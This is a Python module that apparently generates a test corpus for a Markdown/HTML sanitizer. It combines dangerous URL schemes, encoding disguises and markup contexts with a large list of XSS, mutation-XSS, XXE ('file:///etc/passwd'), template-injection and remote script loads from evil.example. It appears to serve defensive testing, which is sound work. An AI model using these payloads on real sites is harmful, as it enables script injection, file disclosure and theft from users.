"""Texts made to run a script, to reach another host or to break the page they stand in."""

from collections.abc import Iterator
from itertools import cycle, islice, product

SCHEMES = (
    "javascript:hit(1)",
    "javascript:top.hit(1)//https://a.example/",
    "vbscript:hit(1)",
    "livescript:hit(1)",
    "data:text/html,<script>top.hit(1)</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuaGl0KDEpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit(1)'/>",
    "//evil.example/x.png",
    "https://evil.example/x.png",
    "http:evil.example/x.png",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/1",
    "about:blank#hit(1)",
    "view-source:https://evil.example/",
    "ftp://evil.example/x.png",
    "intent://evil.example/#Intent;end",
)
DISGUISES = (
    "{0}{1}",
    "{upper}{1}",
    " {0}{1}",
    "&#x01;{0}{1}",
    "\\{0}{1}",
    "&#{first};{rest}{1}",
    "&#0000{first}{rest}{1}",
    "{0}&Tab;{1}",
    "{0}&NewLine;{1}",
    "{0}%0a{1}",
    "%{hexa}{rest}{1}",
    "{0}\u200b{1}",
    "\u00a0{0}{1}",
    "\u2028{0}{1}",
    "{0}&colon;{1}",
    "\\/\\/evil.example/{0}{1}",
    "https:\\\\evil.example\\{0}{1}",
    "./{0}{1}",
    "#{0}{1}",
    "?{0}{1}",
)
PLACES = (
    "[ord]({0})",
    "[ord](<{0}>)",
    "![alt]({0})",
    "![alt](<{0}>)",
    "<{0}>",
    "[ord]\n\n[ord]: {0}",
    "[ord][]\n\n[ord]: <{0}> '{0}'",
    "[ord](side.md '{0}')",
    "[![alt]({0})]({0})",
    "## Afsnit {{#{0}}}",
    "## {0}",
    "```{0}\nkode\n```",
    "| a | {0} |\n|---|---|\n| b | [x]({0}) |",
    '<a href="{0}">ord</a>',
    "<a href={0}>ord</a>",
    '<img src="{0}">',
    '<iframe src="{0}"></iframe>',
    '<object data="{0}"></object>',
    '<embed src="{0}">',
    '<form action="{0}"><input type=submit autofocus></form>',
    '<base href="{0}">',
    '<link rel=stylesheet href="{0}">',
    '<meta http-equiv=refresh content="0;url={0}">',
    '<svg><a xlink:href="{0}"><text>ord</text></a></svg>',
    '<svg><use href="{0}"/></svg>',
    '<math href="{0}">ord</math>',
    '<video poster="{0}"><source src="{0}"></video>',
    '<style>@import "{0}"; * {{ background: url({0}) }}</style>',
    '<p style="background:url({0})">ord</p>',
    '<body background="{0}" onload="hit(1)">',
    '<a ping="{0}" href="#x">ord</a>',
    '<img srcset="{0} 1x">',
)
SCRIPTS = (
    "<script>hit(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "</script><script>hit(1)</script>",
    "</title><script>hit(1)</script>",
    "</textarea></style></noscript></template><script>hit(1)</script>",
    "<scr<script>ipt>hit(1)</scr</script>ipt>",
    "<SCRIPT\n>hit(1)</SCRIPT\t>",
    "<img src=x onerror=hit(1)>",
    "<img src=x onerror=hit`1`>",
    "<img/src=x/onerror=hit(1)//",
    "<svg onload=hit(1)>",
    "<svg/onload=hit(1)//<svg/onload=hit(1)//",
    "<svg><script>hit(1)</script></svg>",
    "<svg><animate onbegin=hit(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>top.hit(1)</script>'></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=hit(1)'>",
    "<math><mi xlink:href='data:x,<script>hit(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=hit(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>",
    "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>",
    "<details open ontoggle=hit(1)>",
    "<input autofocus onfocus=hit(1)>",
    "<video><source onerror=hit(1)></video>",
    "<marquee onstart=hit(1)>",
    "<template><script>hit(1)</script></template>",
    "<xmp><p title='</xmp><script>hit(1)</script>'>",
    "<!--><script>hit(1)</script>-->",
    "<!-- --!><script>hit(1)</script>",
    "<![CDATA[><script>hit(1)</script>]]>",
    "]]><script>hit(1)</script>",
    "<?xml version='1.0'?><script>hit(1)</script>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "'\"><script>hit(1)</script>",
    '" onmouseover=hit(1) autofocus onfocus=hit(1) x="',
    "' onmouseover=hit(1) autofocus onfocus=hit(1) x='",
    "` onerror=hit(1) `",
    " onload=hit(1) ",
    '" style="background:url(https://evil.example/x)" x="',
    "expression(hit(1))",
    "-moz-binding:url(https://evil.example/x)",
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(10 ** 9) %}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# hit(1) #}",
    "{0.__class__} %(name)s ${hit(1)} #{hit(1)} <%= hit(1) %>",
    "{count} {title} {{path}}",
    "&lt;script&gt;hit(1)&lt;/script&gt;",
    "&#60;script&#62;hit(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=hit(1)&amp;gt;",
    "\\u003cscript\\u003ehit(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ehit(1)\\x3c/script\\x3e",
    "\uff1cscript\uff1ehit(1)\uff1c/script\uff1e",
    "\u02bascript\u02ba \u2039img\u203a",
    "+ADw-script+AD4-hit(1)+ADw-/script+AD4-",
    "\u00bcscript\u00behit(1)",
    "<scr\u0131pt>hit(1)</scr\u0131pt>",
    "<\u017fcript>hit(1)</\u017fcript>",
    "<a id=hit name=hit></a><a id=document name=cookie>",
    "<img name=querySelector><form id=body>",
    "*{{x}}* **<b onclick=hit(1)>** `<script>hit(1)</script>`",
    "[x](javascript:hit(1)) ![x](https://evil.example/x.png) <javascript:hit(1)>",
    "- [x](javascript&colon;hit(1)){onclick=hit(1)}",
    '!!! note "<script>hit(1)</script>"\n    x',
    "[TOC]\n\n[[x]]\n\n--8<-- '/etc/passwd'",
    "    <script>hit(1)</script>",
    "https://evil.example/<script>hit(1)</script>",
    "www.evil.example mailto:a@evil.example",
)


def addresses() -> Iterator[str]:
    """Yield every scheme in every disguise."""
    for scheme, disguise in product(SCHEMES, DISGUISES):
        name, colon, rest = scheme.partition(":")
        head = name + colon
        yield disguise.format(
            head,
            rest,
            upper="".join(a.upper() if n % 2 else a for n, a in enumerate(head)),
            first=ord(head[0] or "/") if head else 47,
            rest=head[1:],
            hexa=f"{ord(head[0]):02x}" if head else "2f",
        )


def in_places() -> Iterator[str]:
    """Yield every place with an address, each time another, until each has had each."""
    everything = list(addresses())
    for turn in range(len(everything)):
        for number, place in enumerate(PLACES):
            yield (
                place.replace("{0}", everything[(turn * 7 + number * 11) % len(everything)])
                .replace("{{", "{")
                .replace("}}", "}")
            )


def payloads(count: int) -> list[str]:
    """Return as many payloads: all that are scripts first, then addresses in their places."""
    return list(islice((one for source in (SCRIPTS, in_places()) for one in source), count))


def texts() -> Iterator[str]:
    """Yield what is put into fields, over and over."""
    return cycle([*SCRIPTS, *(one.replace("\n", " ") for one in islice(in_places(), 200))])
